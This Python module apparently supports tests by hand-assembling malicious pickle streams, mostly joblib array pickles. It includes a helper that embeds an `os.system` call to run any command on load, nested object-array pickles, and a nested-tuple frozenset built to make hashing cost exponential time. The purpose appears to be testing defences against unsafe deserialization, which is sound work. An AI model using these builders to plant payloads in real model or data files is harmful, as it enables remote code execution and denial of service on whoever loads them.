"""Pickles put together by hand, opcode by opcode, as an attacker would."""

from __future__ import annotations

import pickle
import struct

MARK, STOP, TUPLE, TUPLE1, REDUCE, BUILD = b"(", b".", b"t", b"\x85", b"R", b"b"
EMPTY_TUPLE, EMPTY_DICT, NEWOBJ, SETITEMS, NONE, POP = b")", b"}", b"\x81", b"u", b"N", b"0"
PROTO = b"\x80\x05"


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + MARK + b"".join(arguments) + TUPLE + REDUCE


def number(value: int) -> bytes:
    return b"\x8a\x08" + struct.pack("<q", value)


def dictionary(**items: bytes) -> bytes:
    pairs = b"".join(text(key) + value for key, value in items.items())
    return EMPTY_DICT + MARK + pairs + SETITEMS


def dtype(code: str) -> bytes:
    """A numpy dtype of a fixed size as numpy pickles it."""
    made = call("numpy", "dtype", text(code), b"\x89", b"\x88")
    order, flags = ("|" if code in ("O8", "u1") else "<"), (63 if code == "O8" else 0)
    state = number(3) + text(order) + NONE * 3 + number(-1) + number(-1) + number(flags)
    return made + MARK + state + TUPLE + BUILD


def wrapper(code: str, shape: tuple[int, ...], **more: bytes) -> bytes:
    """A joblib array wrapper up to the BUILD after which the array's bytes are expected."""
    state = dictionary(
        subclass=name("numpy", "ndarray"),
        shape=MARK + b"".join(map(number, shape)) + TUPLE,
        order=text("C"),
        dtype=dtype(code),
        allow_mmap=b"\x89",
        **more,
    )
    return name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD


def system(command: str) -> bytes:
    return call("os", "system", b"X" + struct.pack("<I", len(command)) + command.encode())


def stream(*parts: bytes) -> bytes:
    return PROTO + b"".join(parts) + STOP


def object_array(inner: bytes) -> bytes:
    """A joblib pickle of one object array, whose nested pickle is `inner`."""
    return stream(wrapper("O8", (1,)), inner)


def nested_tuples(depth: int) -> bytes:
    """A frozenset of t = (t, t) to a depth: few bytes, and two to the depth steps to hash."""
    made = EMPTY_TUPLE + b"\x94"
    for index in range(depth):
        made += bytes([ord("0")]) if index else b""
        made += b"h" + bytes([index]) + b"h" + bytes([index]) + b"\x86\x94"
    return stream(MARK, made, b"\x91") if depth else pickle.dumps(frozenset())
